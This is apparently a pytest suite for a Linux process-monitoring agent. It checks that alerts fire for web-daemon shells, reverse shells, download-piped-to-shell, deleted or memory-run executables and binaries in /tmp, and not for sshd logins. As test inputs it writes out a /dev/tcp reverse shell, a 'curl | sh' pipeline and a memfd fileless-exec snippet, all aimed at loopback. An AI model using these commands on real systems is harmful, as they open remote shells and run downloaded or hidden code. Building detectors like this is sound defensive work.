"""proc's rules against real processes seen through kernel events: each attack pattern raises exactly
its alert, and normal activity (a login: sshd starting a shell) raises none."""

from __future__ import annotations

import asyncio
import http.server
import os
import shutil
import subprocess
import sys
import tempfile
import threading
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import msgspec
import pytest

from amoskys.agents.proc.config import ProcAgentConfig, ProcConfig
from amoskys.agents.proc.rules import RULES, _address
from amoskys.config import load_config
from amoskys.errors import ConfigError
from amoskys.v1 import events_pb2
from tests.agents.proc_running import Running, running_agent

Action = events_pb2.ProcessEvent.Action
SHELL = shutil.which("bash") or "/bin/bash"


@pytest.fixture
async def running(tmp_path: Path) -> AsyncIterator[Running]:
    async with running_agent(tmp_path) as state:
        yield state


@pytest.fixture
def private_bin() -> Iterator[Path]:
    """A directory only root can write, outside /tmp and the like: where a program is nothing unusual."""
    directory = Path(tempfile.mkdtemp(prefix="amoskys-proc-", dir=Path.home()))
    yield directory
    shutil.rmtree(directory, ignore_errors=True)


def named_copy(program: str, directory: Path, name: str) -> Path:
    """A copy of `program` called `name` (its mtime kept: an old binary under another name)."""
    path = directory / name
    shutil.copy2(shutil.which(program) or program, path)
    return path


def stop(process: subprocess.Popen[bytes]) -> None:
    subprocess.run(["pkill", "-KILL", "-P", str(process.pid)], check=False)
    process.kill()
    process.wait()


def rules_of(alerts: list[events_pb2.Alert]) -> list[str]:
    return sorted(alert.rule for alert in alerts)


async def test_a_login_shell_from_sshd_raises_nothing(running: Running, private_bin: Path) -> None:
    sshd = named_copy(SHELL, private_bin, "sshd")
    login = subprocess.Popen([str(sshd), "-c", "sh -c 'id >/dev/null; ls / >/dev/null; sleep 30'; true"])
    try:
        await running.wait_for(lambda: any(p.name == "sleep" for p in _children_of(running, login.pid, depth=2)))
        pids = [login.pid, *(p.pid for p in _children_of(running, login.pid, depth=2))]
        assert len(pids) >= 4  # sshd, sh, id, ls, sleep
        assert [alert for pid in pids for alert in running.alerts(pid)] == []
    finally:
        stop(login)


def _children_of(running: Running, pid: int, depth: int) -> list[events_pb2.ProcessEvent]:
    found = [e.process for e in running.events if e.WhichOneof("body") == "process" and e.process.ppid == pid]
    if depth > 1:
        found += [grandchild for child in list(found) for grandchild in _children_of(running, child.pid, depth - 1)]
    return found


async def test_a_web_daemon_starting_a_shell_raises_one_alert(running: Running, private_bin: Path) -> None:
    nginx = named_copy(SHELL, private_bin, "nginx")
    daemon = subprocess.Popen([str(nginx), "-c", "sh -c 'sleep 30'; true"])
    try:
        await running.wait_for(lambda: any(p.name == "sleep" for p in _children_of(running, daemon.pid, depth=2)))
        (shell,) = [p for p in running.processes_named("sh") if p.ppid == daemon.pid]
        await running.wait_for(lambda: bool(running.alerts(shell.pid)))
        (alert,) = running.alerts(shell.pid)
        assert alert.rule == "proc.shell_from_web_daemon"
        assert alert.details["parent"] == "nginx" and alert.details["ppid"] == str(daemon.pid)
        assert running.alerts(daemon.pid) == []
        alert_event = next(e for e in running.events if e.WhichOneof("body") == "alert" and e.alert == alert)
        assert alert_event.severity == events_pb2.SEVERITY_WARNING
    finally:
        stop(daemon)


async def test_commands_run_by_a_daemons_shell_each_raise_an_alert(running: Running, private_bin: Path) -> None:
    php = named_copy(SHELL, private_bin, "php-fpm8.2")
    daemon = subprocess.Popen([str(php), "-c", "sh -c 'sleep 0.5; sleep 30; true'; true"])
    try:
        await running.wait_for(
            lambda: (
                sum(p.name == "sleep" and p.action == Action.START for p in _children_of(running, daemon.pid, 2)) >= 2
            )
        )
        (shell,) = [p for p in running.processes_named("sh") if p.ppid == daemon.pid]
        commands = [p for p in _children_of(running, shell.pid, depth=1) if p.action == Action.START]
        assert [p.name for p in commands] == ["sleep", "sleep"]
        for command in commands:
            await running.wait_for(lambda command=command: bool(running.alerts(command.pid)))
            assert rules_of(running.alerts(command.pid)) == ["proc.child_of_daemon_shell"]
        assert rules_of(running.alerts(shell.pid)) == ["proc.shell_from_web_daemon"]
    finally:
        stop(daemon)


@pytest.mark.skipif(os.geteuid() != 0, reason="a network namespace needs root")
async def test_a_reverse_shell_in_a_network_namespace_raises_one_critical_alert(running: Running) -> None:
    """In its own network namespace, a listener on loopback; a shell whose stdin is a TCP connection to it."""
    script = (
        "ip link set lo up; "
        'python3 -c \'import socket,time; s=socket.socket(); s.bind(("127.0.0.1", 4444)); s.listen(); '
        "c, _ = s.accept(); time.sleep(30)' & "
        "until sh -i 3<>/dev/tcp/127.0.0.1/4444 <&3 >&3 2>&3; do sleep 0.2; done"
    )
    outer = subprocess.Popen(["unshare", "--net", SHELL, "-c", script], stdin=subprocess.DEVNULL)
    try:
        await running.wait_for(lambda: any(p.cmdline == ["sh", "-i"] for p in running.processes_named("sh")))
        (shell,) = [p for p in running.processes_named("sh") if p.cmdline == ["sh", "-i"]]
        await running.wait_for(lambda: bool(running.alerts(shell.pid)))
        (alert,) = running.alerts(shell.pid)
        assert alert.rule == "proc.reverse_shell"
        assert alert.details["remote"] == "127.0.0.1:4444"
        event = next(e for e in running.events if e.WhichOneof("body") == "alert" and e.alert == alert)
        assert event.severity == events_pb2.SEVERITY_CRITICAL
        others = [p.pid for p in running.events_processes() if p.pid != shell.pid]
        assert not [a for pid in others for a in running.alerts(pid) if a.rule == "proc.reverse_shell"]
    finally:
        stop(outer)


async def test_a_download_piped_into_a_shell_raises_one_alert(running: Running, tmp_path: Path) -> None:
    (tmp_path / "install.sh").write_text("sleep 1\n")
    handler = lambda *args: http.server.SimpleHTTPRequestHandler(*args, directory=str(tmp_path))  # noqa: E731
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/install.sh"
    try:
        pipeline = await _run(["sh", "-c", f"curl -s {url} | sh"])
        curl = next(p for p in running.processes_named("curl") if p.ppid == pipeline)
        shell = next(p for p in running.processes_named("sh") if p.ppid == pipeline)
        await running.wait_for(lambda: bool(running.alerts(curl.pid) + running.alerts(shell.pid)))
        (alert,) = running.alerts(curl.pid) + running.alerts(shell.pid)
        assert alert.rule == "proc.download_piped_to_shell"
        assert alert.details["downloader"] == f"curl -s {url}"
    finally:
        server.shutdown()
        server.server_close()


async def _run(argv: list[str]) -> int:
    process = await asyncio.create_subprocess_exec(*argv)
    await process.wait()
    return process.pid


async def test_a_deleted_executable_raises_one_alert(running: Running, private_bin: Path) -> None:
    payload = named_copy("sleep", private_bin, "payload")
    child = subprocess.Popen([str(payload), "30"])
    try:
        await running.wait_for(lambda: bool(running.processes(child.pid, Action.START)))
        payload.unlink()  # a dropper deleting what it started: seen by the recheck (every second)
        await running.wait_for(lambda: bool(running.alerts(child.pid)))
        (alert,) = running.alerts(child.pid)
        assert alert.rule == "proc.exe_deleted"
    finally:
        stop(child)


MEMFD_EXEC = (
    "import os, sys; fd = os.memfd_create(sys.argv[1], 0); os.write(fd, open(sys.argv[2], 'rb').read()); "
    "os.execv(f'/proc/self/fd/{fd}', ['payload', '30'])"
)


@pytest.mark.parametrize(
    ("memfd", "expected"),
    [("payload", ["proc.exe_deleted", "proc.new_binary"]), ("runc_cloned:/proc/self/exe", [])],
    ids=["fileless", "runc"],
)
async def test_a_program_run_from_memory_raises_its_alerts(running: Running, memfd: str, expected: list[str]) -> None:
    child = subprocess.Popen([sys.executable, "-c", MEMFD_EXEC, memfd, shutil.which("sleep") or "/bin/sleep"])
    try:
        await running.wait_for(lambda: any(p.exe.startswith("/memfd:") for p in running.processes(child.pid)))
        await running.wait_for(lambda: len(running.alerts(child.pid)) >= len(expected), timeout=5)
        assert rules_of(running.alerts(child.pid)) == expected
    finally:
        stop(child)


async def test_an_upgraded_executable_raises_nothing(running: Running, private_bin: Path) -> None:
    """An upgrade replaces the file (a new inode at the same path): the old one runs on, deleted but replaced."""
    program = named_copy("sleep", private_bin, "daemon")
    child = subprocess.Popen([str(program), "30"])
    try:
        await running.wait_for(lambda: bool(running.processes(child.pid, Action.START)))
        upgrade = named_copy("sleep", private_bin, "daemon.new")
        upgrade.rename(program)
        await running.wait_for(lambda: os.readlink(f"/proc/{child.pid}/exe").endswith("(deleted)"))
        assert running.agent.recheck() == []
        assert running.alerts(child.pid) == []
    finally:
        stop(child)


async def test_a_program_under_tmp_raises_one_alert(running: Running) -> None:
    directory = Path(tempfile.mkdtemp(prefix="amoskys-proc-", dir="/tmp"))
    try:
        child = subprocess.Popen([str(named_copy("sleep", directory, "helper")), "30"])
        try:
            await running.wait_for(lambda: bool(running.alerts(child.pid)))
            (alert,) = running.alerts(child.pid)
            assert alert.rule == "proc.exe_in_writable_dir" and alert.details["directory"] == str(directory)
        finally:
            stop(child)
    finally:
        shutil.rmtree(directory, ignore_errors=True)


async def test_a_new_binary_raises_one_alert(running: Running, private_bin: Path) -> None:
    fresh = private_bin / "fresh"
    shutil.copy(shutil.which("sleep") or "/bin/sleep", fresh)  # a plain copy: modified just now
    child = subprocess.Popen([str(fresh), "30"])
    try:
        await running.wait_for(lambda: bool(running.alerts(child.pid)))
        (alert,) = running.alerts(child.pid)
        assert alert.rule == "proc.new_binary"
    finally:
        stop(child)


async def test_rules_can_be_disabled_ignored_and_given_another_severity(tmp_path: Path, private_bin: Path) -> None:
    rules = {
        "new_binary": {"enabled": False},
        "exe_in_writable_dir": {"severity": "error", "ignore_exes": ["/tmp/*/quiet"]},
    }
    directory = Path(tempfile.mkdtemp(prefix="amoskys-proc-", dir="/tmp"))
    children = []
    try:
        async with running_agent(tmp_path, rules=rules) as running:
            for name in ("loud", "quiet"):
                shutil.copy(shutil.which("sleep") or "/bin/sleep", directory / name)  # also new: that rule is off
                children.append(subprocess.Popen([str(directory / name), "30"]))
            loud, quiet = children
            await running.wait_for(lambda: bool(running.alerts(loud.pid) and running.processes(quiet.pid)))
            (alert,) = running.alerts(loud.pid)
            assert alert.rule == "proc.exe_in_writable_dir"
            event = next(e for e in running.events if e.WhichOneof("body") == "alert" and e.alert == alert)
            assert event.severity == events_pb2.SEVERITY_ERROR
            assert running.alerts(quiet.pid) == []
    finally:
        for child in children:
            stop(child)
        shutil.rmtree(directory, ignore_errors=True)


def test_every_rule_has_settings_a_severity_and_a_description() -> None:
    settings = msgspec.structs.fields(ProcConfig().rules)
    assert sorted(rule.key for rule in RULES) == sorted(field.name for field in settings)
    assert len({rule.id for rule in RULES}) == len(RULES)
    for rule in RULES:
        assert rule.id == f"proc.{rule.key}" and rule.description
        assert rule.severity in ("warning", "error", "critical")
    assert "sshd" not in ProcConfig().rules.shell_from_web_daemon.daemons  # a login is not an alert


def test_an_unknown_rule_or_severity_is_a_config_error(tmp_path: Path) -> None:
    path = tmp_path / "agent.yml"
    path.write_text("proc: {rules: {reverse_shel: {enabled: false}}}\n")
    with pytest.raises(ConfigError, match="did you mean 'reverse_shell'"):
        load_config(path, ProcAgentConfig)
    path.write_text("proc: {rules: {reverse_shell: {severity: loud}}}\n")
    with pytest.raises(ConfigError, match="expected one of"):
        load_config(path, ProcAgentConfig)


@pytest.mark.parametrize(
    ("hex_address", "expected"),
    [
        ("0100007F:115C", "127.0.0.1:4444"),
        ("00000000000000000000000001000000:0016", "[::1]:22"),
        ("0000000000000000FFFF00000100007F:01BB", "127.0.0.1:443"),
    ],
)
def test_proc_net_addresses_are_read_in_host_byte_order(hex_address: str, expected: str) -> None:
    assert _address(hex_address) == expected
